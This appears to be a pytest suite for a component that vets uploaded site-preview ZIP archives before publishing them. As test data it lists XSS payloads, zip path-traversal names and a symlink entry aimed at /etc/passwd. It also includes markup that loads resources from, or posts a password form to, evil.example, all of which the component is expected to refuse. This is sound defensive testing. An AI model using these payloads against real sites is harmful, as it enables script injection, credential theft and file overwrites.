"""The trusted side: a preview is taken in only when it is what the published site could be."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from support.repositories import commit, repository
from support.site import GREEN, files

from handrail.cli import main
from handrail.field.preview.receive import ArchiveError, archive, inspect, unpack
from handrail.field.preview.receive.inspect import Known, known_of

URL = 'https://example.org/site/pr/7/'


@pytest.fixture(scope='module')
def sites(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A published site, and a preview of a change to it."""
    root = repository(tmp_path_factory.mktemp('content'), GREEN)
    commit(root, {'docs/services/gate.md': '---\nowner: porters\n---\n# The gate\n\nIt is new.\n'})
    room = tmp_path_factory.mktemp('sites')
    assert (
        main(['preview', '-f', str(root), '--base', 'HEAD~1', '--out', str(room / 'preview'), '--url', URL])
        == 0
    )
    assert main(['build', '-f', str(root), '--site', str(room / 'published')]) == 0
    return room / 'published', room / 'preview' / 'site'


@pytest.fixture(scope='module')
def known(sites: tuple[Path, Path]) -> Known:
    return known_of(files(sites[0]))


@pytest.fixture
def theirs(sites: tuple[Path, Path]) -> dict[str, bytes]:
    return {path: data for path, data in files(sites[1]).items() if not path.startswith('preview/')}


def packed(content: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as made:
        for name, data in content.items():
            made.writestr(name, data)
    return out.getvalue()


def with_entry(name: str, data: bytes = b'x', mode: int = 0, **facts: int) -> bytes:
    """A good archive with one more entry."""
    out = io.BytesIO(packed({'index.html': b'x'}))
    with zipfile.ZipFile(out, 'a', zipfile.ZIP_DEFLATED) as made:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        for key, value in facts.items():
            setattr(info, key, value)
        made.writestr(info, data)
    return out.getvalue()


def receive(data: bytes, tmp_path: Path, published: Path) -> int:
    (tmp_path / 'preview.zip').write_bytes(data)
    arguments = [
        str(tmp_path / 'preview.zip'),
        str(tmp_path / 'got'),
        '--known',
        str(published),
        '--url',
        URL,
    ]
    return main(['receive', *arguments, '--comment', str(tmp_path / 'comment.md')])


def test_a_good_one_is_taken_in_whole(sites: tuple[Path, Path], tmp_path: Path) -> None:
    published, preview = sites
    assert receive(packed(files(preview)), tmp_path, published) == 0
    got, wanted = files(tmp_path / 'got'), files(preview)
    assert got.keys() == wanted.keys() - archive.HOSTS
    assert all(got[name] == wanted[name] for name in got)
    assert f']({URL}services/gate/)' in (tmp_path / 'comment.md').read_text()


def test_summary_page_and_comment_are_made_anew(sites: tuple[Path, Path], tmp_path: Path) -> None:
    published, preview = sites
    evil = b'<script>alert(1)</script> @everyone'
    content = files(preview) | {
        f'preview/{name}': evil for name in ('index.html', 'preview.md', 'preview.css')
    }
    summary = json.loads(content['preview/preview.json'])
    summary['pages'][0]['title'] = '@everyone [x](https://evil.example) ![p](https://evil.example/p.png) <b>'
    content['preview/preview.json'] = json.dumps(summary).encode()
    assert receive(packed(content), tmp_path, published) == 0
    comment, page = (tmp_path / 'comment.md').read_text(), (tmp_path / 'got/preview/index.html').read_text()
    assert '<script' not in comment + page
    assert '<b>' not in comment + page
    assert '@everyone' not in comment
    assert '](https://evil' not in comment
    assert 'everyone' in comment
    assert (tmp_path / 'got/preview/preview.css').read_bytes() != evil


@pytest.mark.parametrize(
    'change',
    [
        {'schema_version': '2'},
        {'extra': 1},
        {'refused': [{'file': 'x' * 5000, 'reason': 'y'}]},
        {
            'pages': [
                {'state': 'new', 'url': 'javascript:alert(1)', 'title': 't', 'document': None, 'parts': []}
            ]
        },
        {'pages': [{'state': 'new', 'url': '//evil.example/', 'title': 't', 'document': None, 'parts': []}]},
        {'pages': [{'state': 'new', 'url': '../../', 'title': 't', 'document': None, 'parts': []}]},
        {
            'pages': [
                {'state': 'new', 'url': 'a/%2e%2E/%252e./b', 'title': 't', 'document': None, 'parts': []}
            ]
        },
    ],
)
def test_data_of_another_form_are_refused(
    sites: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str], change: dict[str, object]
) -> None:
    published, preview = sites
    content = files(preview)
    content['preview/preview.json'] = json.dumps(
        json.loads(content['preview/preview.json']) | change
    ).encode()
    assert receive(packed(content), tmp_path, published) == 1
    assert 'preview/preview.json' in capsys.readouterr().err
    assert not (tmp_path / 'got').exists()
    assert not (tmp_path / 'comment.md').exists()


@pytest.mark.parametrize(
    ('data', 'said'),
    [
        (b'', 'no ZIP archive'),
        (b'PK\x03\x04 and no more', 'no ZIP archive'),
        (packed({}), 'holds no file'),
        (packed({'../index.html': b'x'}), 'leaves the folder'),
        (packed({'a/../../index.html': b'x'}), 'leaves the folder'),
        (packed({'/etc/cron.d/x.txt': b'x'}), 'leaves the folder'),
        (packed({'a//b.html': b'x'}), 'leaves the folder'),
        (packed({'C:/x.html': b'x'}), 'leads elsewhere'),
        (packed({'..\\x.html': b'x'}), 'leads elsewhere'),
        (packed({'.git/config.txt': b'x'}), 'hidden part'),
        (packed({'.htaccess': b'x'}), 'hidden part'),
        (packed({'a. /x.html': b'x'}), 'hidden part'),
        (packed({'a\u202elmth.html': b'x'}), 'cannot be seen'),
        (packed({'a\nb.html': b'x'}), 'cannot be seen'),
        (packed({'x.php': b'x'}), 'ends like that'),
        (packed({'CNAME': b'x'}), 'ends like that'),
        (packed({'x.wasm': b'x'}), 'ends like that'),
        (packed({'x.xhtml': b'x'}), 'ends like that'),
        (packed({'a.html': b'x', 'A.html': b'x'}), 'the same place'),
        (packed({'a.html': b'x', 'a.html/b.html': b'x'}), 'the same place'),
        (packed({'a.html/b.html': b'x', 'a.html': b'x'}), 'the same place'),
        (with_entry('l.html', b'/etc/passwd', stat.S_IFLNK | 0o777), 'a link or a device'),
        (with_entry('p.html', b'', stat.S_IFIFO | 0o644), 'a link or a device'),
        (with_entry('d.html', b'', stat.S_IFCHR | 0o644), 'a link or a device'),
        (with_entry('b.html', b'x', compress_type=zipfile.ZIP_BZIP2), 'packed in a way'),
    ],
)
def test_an_archive_that_is_none_of_ours(data: bytes, said: str) -> None:
    with pytest.raises(ArchiveError, match=said):
        unpack(data)


def test_two_entries_of_one_name() -> None:
    with pytest.warns(UserWarning, match='Duplicate'):
        data = with_entry('index.html', b'other')
    with pytest.raises(ArchiveError, match='the same place'):
        unpack(data)


def test_an_archive_that_grows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, 'LARGEST', 1_000_000)
    monkeypatch.setattr(archive, 'MOST_BYTES', 1_500_000)
    with pytest.raises(ArchiveError, match='larger than a preview'):
        unpack(packed({'a.txt': bytes(1_000_001)}))
    with pytest.raises(ArchiveError, match='larger than a preview'):
        unpack(packed({'a.txt': bytes(1_000_000), 'b.txt': bytes(1_000_000)}))
    assert len(unpack(packed({'a.txt': bytes(1_000_000)}))['a.txt']) == 1_000_000
    data = bytearray(packed({'a.txt': bytes(1_200_000)}))
    at = data.rindex(b'PK\x01\x02') + 24
    data[at : at + 4] = (10).to_bytes(4, 'little')  # the header says ten bytes
    with pytest.raises(ArchiveError):
        unpack(bytes(data))


def test_an_archive_of_too_many(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, 'MOST_FILES', 3)
    with pytest.raises(ArchiveError, match='4 entries'):
        unpack(packed({f'{number}.txt': b'x' for number in range(4)}))


def test_the_preview_of_a_good_change_is_in_order(known: Known, theirs: dict[str, bytes]) -> None:
    assert inspect(theirs, known, '/site/pr/7/') == []
    assert len([path for path in theirs if path.endswith('.html')]) > 20


def in_body(html: bytes, text: str) -> bytes:
    return html.replace(b'</article>', text.encode() + b'</article>', 1)


BODY: list[str] = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script src="../x.txt"></script>',
    '<script src="//evil.example/assets/handrail.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.svg"></object>',
    '<embed src="x.svg">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0; url=//evil.example/">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<form action="https://evil.example/"><input name=password></form>',
    '<button formaction="https://evil.example/">x</button>',
    '<img src="https://evil.example/p.png">',
    '<img srcset="https://evil.example/p.png 2x">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<video poster="https://evil.example/p.png"></video>',
    '<!--><script>alert(1)</script>-->',
    '<template><img src=x></template>',
    '<math><mtext><img src=x></mtext></math>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<style>* { background: url(https://evil.example/) }</style>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<a href="x" href="y">twice</a>',
    '<script type="application/json" id="__config">{"base": ".", "search": "data:,1"}</script>',
    '<![CDATA[<script>]]>',
    '<?xml-stylesheet href="x"?>',
]


@pytest.mark.parametrize('text', BODY)
def test_what_acts_in_a_page_is_refused(known: Known, theirs: dict[str, bytes], text: str) -> None:
    theirs['services/gate/index.html'] = in_body(theirs['services/gate/index.html'], text)
    found = inspect(theirs, known, '/site/pr/7/')
    assert found
    assert all(said.startswith('services/gate/index.html: ') for said in found)


def without_policy(html: bytes) -> bytes:
    start = html.index(b'<meta http-equiv="Content-Security-Policy"')
    return html[:start] + html[html.index(b'>', start) + 1 :]


Change = Callable[[bytes], bytes]
PAGES: list[tuple[Change, str]] = [
    (without_policy, 'does not say the policy'),
    (lambda html: html.replace(b"default-src 'none'", b'default-src *', 1), 'does not say the policy'),
    (lambda html: b'<p>' + html, 'does not say the policy'),
    (
        lambda html: html.replace(b'<head>', b'<head><script src="x.js"></script>', 1),
        'does not say the policy',
    ),
    (lambda html: html.replace(b'content="noindex"', b'content="index"', 1), 'search engines'),
    (lambda html: html + b'\xff', 'UTF-8'),
]


@pytest.mark.parametrize(('change', 'said'), PAGES)
def test_a_page_that_is_not_as_ours_are(
    known: Known, theirs: dict[str, bytes], change: Change, said: str
) -> None:
    path = 'services/gate/index.html'
    theirs[path] = change(theirs[path])
    assert any(said in one for one in inspect(theirs, known, '/site/pr/7/'))


SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
FILES: list[tuple[str, str]] = [
    ('assets/evil.js', 'alert(1)'),
    ('sw.js', 'self.onfetch = 1'),
    ('assets/evil.css', '* { color: red }'),
    ('a.svg', SVG.format('<script>alert(1)</script>')),
    ('a.svg', SVG.format('<rect onclick="alert(1)"/>')),
    ('a.svg', SVG.format('<foreignObject><p>x</p></foreignObject>')),
    ('a.svg', SVG.format('<image href="https://evil.example/"/>')),
    ('a.svg', '<!DOCTYPE svg [<!ENTITY x "y">]>' + SVG.format('')),
    ('a.xml', '<?xml-stylesheet href="x.xsl"?><a/>'),
]


@pytest.mark.parametrize(('path', 'text'), FILES)
def test_files_that_act_are_refused(known: Known, theirs: dict[str, bytes], path: str, text: str) -> None:
    theirs[path] = text.encode()
    found = inspect(theirs, known)
    assert [said for said in found if said.startswith(f'{path}: ')]


def test_a_picture_is_no_harm(known: Known, theirs: dict[str, bytes]) -> None:
    theirs['a.svg'] = SVG.format('<rect width="1"/>').encode()
    theirs['services/gate/index.html'] = in_body(
        theirs['services/gate/index.html'], '<img src="../../a.svg" alt="">'
    )
    assert inspect(theirs, known, '/site/pr/7/') == []


def test_without_a_policy_nothing_can_be_held_to_it(theirs: dict[str, bytes], known: Known) -> None:
    assert inspect(theirs, Known(known.files, '', known.data)) == [
        'the published site says no policy that its previews could be held to'
    ]


def test_what_was_there_stays_when_one_is_refused(sites: tuple[Path, Path], tmp_path: Path) -> None:
    published, preview = sites
    assert receive(packed(files(preview)), tmp_path, published) == 0
    before = files(tmp_path / 'got')
    assert receive(packed(files(preview) | {'assets/evil.js': b'alert(1)'}), tmp_path, published) == 1
    assert files(tmp_path / 'got') == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ['comment.md', 'got', 'preview.zip']


def test_without_the_published_site_it_cannot_be_done(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert receive(b'', tmp_path, tmp_path / 'nothing') == 2
    assert main(['receive', str(tmp_path / 'none.zip'), str(tmp_path / 'got'), '--known', str(tmp_path)]) == 2
    assert 'name the published one' in capsys.readouterr().err
